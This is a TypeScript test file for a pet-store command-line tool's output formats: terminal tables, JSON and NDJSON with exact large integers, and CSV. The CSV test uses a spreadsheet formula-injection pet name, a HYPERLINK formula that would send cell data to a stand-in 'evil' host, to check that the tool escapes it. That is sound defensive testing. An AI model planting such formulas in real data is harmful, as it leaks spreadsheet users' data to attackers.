import { stripVTControlCharacters } from 'node:util';
import { LosslessNumber } from 'lossless-json';
import { beforeAll, describe, expect, test } from 'vitest';
import { renderPet, renderPets } from '../../src/output/pets';
import { type RenderOptions, loadTable } from '../../src/output/records';
import type { Pet } from '../../src/schemas/pet';

/** The pets' columns, and with them each format's layout (records.ts); TSV, no rows and outside text: records.test.ts. */

// A terminal's table is drawn by a renderer loaded on demand (records.ts).
beforeAll(loadTable);

const ESC = '\u001b';
const TTY: RenderOptions = { tty: true, level: 0 };
const TTY_COLOUR: RenderOptions = { tty: true, level: 1 };
const PIPE: RenderOptions = { tty: false, level: 0 };

// 2^53 + 1: JSON.parse and Number() would turn it into ...992.
const BIG_ID = 9007199254740993n;

const pets: Pet[] = [
  { id: 1, name: 'Rex', categoryId: 2, status: 'available' },
  { id: 12, name: 'Whiskers', categoryId: 3, status: 'pending' },
  { id: BIG_ID, name: 'Goldie', categoryId: 4, status: 'sold' },
  { id: 5, name: 'Nameless', categoryId: 6 },
];

describe('table on a TTY', () => {
  test('headers, values, `-` for no status; no colour at level 0, above it a coloured status and bold header', () => {
    expect(renderPets(pets, 'table', TTY)).toBe(
      [
        'ID                NAME      CATEGORY  STATUS',
        '1                 Rex       2         available',
        '12                Whiskers  3         pending',
        '9007199254740993  Goldie    4         sold',
        '5                 Nameless  6         -',
        '',
      ].join('\n'),
    );
    const out = renderPets(pets, 'table', TTY_COLOUR);
    for (const header of ['ID', 'NAME', 'CATEGORY', 'STATUS']) expect(out).toContain(`${ESC}[1m${header}${ESC}[22m`);
    // Only the status is coloured: ids and names are plain text.
    expect(out.split('\n')[1]!.startsWith('1                 Rex')).toBe(true);
    expect(out).toContain(`${ESC}[32mavailable${ESC}[39m`);
    expect(out).toContain(`${ESC}[33mpending${ESC}[39m`);
    expect(out).toContain(`${ESC}[2msold${ESC}[22m`);
    expect(stripVTControlCharacters(out)).toBe(renderPets(pets, 'table', TTY));
  });

  const long: Pet[] = [
    { id: 1, name: 'A remarkably long name for a very good dog', categoryId: 2, status: 'available' },
    { id: 2, name: 'Bo', categoryId: 3, status: 'sold' },
  ];
  test.each([
    [
      'truncates NAME with … to fit the terminal width, never wrapping a row',
      long,
      40,
      ['ID  NAME             CATEGORY  STATUS', '1   A remarkably l…  2         available', '2   Bo               3         sold'],
    ],
    [
      'keeps IDs whole and rows on one line even when the terminal is too narrow',
      pets,
      10,
      [
        'ID                NAME   CATEGORY  STATUS',
        '1                 Rex    2         available',
        '12                Whis…  3         pending',
        '9007199254740993  Gold…  4         sold',
        '5                 Name…  6         -',
      ],
    ],
  ])('%s', (_title, rows, width, lines) => {
    expect(renderPets(rows, 'table', { tty: true, level: 0, width })).toBe(`${lines.join('\n')}\n`);
  });
});

const withExtras: Pet = {
  id: BIG_ID,
  name: 'Goldie',
  categoryId: 9223372036854775807n,
  status: 'sold',
  adoptedAt: '2025-01-02T03:04:05Z',
  weightKg: new LosslessNumber('4.10000000000000000001'),
  tags: ['fish', { colour: 'gold' }],
};
const single = [
  '{',
  '  "id": 9007199254740993,',
  '  "name": "Goldie",',
  '  "categoryId": 9223372036854775807,',
  '  "status": "sold",',
  '  "adoptedAt": "2025-01-02T03:04:05Z",',
  '  "weightKg": 4.10000000000000000001,',
  '  "tags": [',
  '    "fish",',
  '    {',
  '      "colour": "gold"',
  '    }',
  '  ]',
  '}',
];

test('json and ndjson: every field the server sent, int64 exact: a single pet: the object, 2-space indent, trailing newline; a list: the array; ndjson: a compact object a line', () => {
  expect(renderPet(withExtras, 'json', PIPE)).toBe(`${single.join('\n')}\n`);
  // No colour in JSON, even on a colour terminal.
  expect(renderPets([withExtras], 'json', TTY_COLOUR)).toBe(`[\n${single.map((line) => `  ${line}`).join('\n')}\n]\n`);
  const list: Pet[] = [
    { id: 1, name: 'Rex', categoryId: 2, status: 'available' },
    { id: BIG_ID, name: 'two\nlines', categoryId: 4, microchip: 'X1' },
  ];
  expect(renderPets(list, 'ndjson', TTY)).toBe(
    '{"id":1,"name":"Rex","categoryId":2,"status":"available"}\n' +
      '{"id":9007199254740993,"name":"two\\nlines","categoryId":4,"microchip":"X1"}\n',
  );
});

test("csv: header, then rows; extra fields left out; names a spreadsheet would take for formulas get a leading ', piped or not; negative ids and categories stay numbers", () => {
  const list: Pet[] = [
    { id: BIG_ID, name: 'Rex, "the" dog', categoryId: 2, status: 'available', extra: 'not in csv' },
    { id: -2, name: '=HYPERLINK("http://evil/?x="&A1,"click")', categoryId: -3 },
    { id: 3, name: '-2+3', categoryId: 1, status: 'sold' },
  ];
  const expected = `id,name,categoryId,status\n9007199254740993,"Rex, ""the"" dog",2,available\n-2,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",-3,\n3,'-2+3,1,sold\n`;
  expect(renderPets(list, 'csv', PIPE)).toBe(expected);
  expect(renderPets(list, 'csv', TTY_COLOUR)).toBe(expected);
});
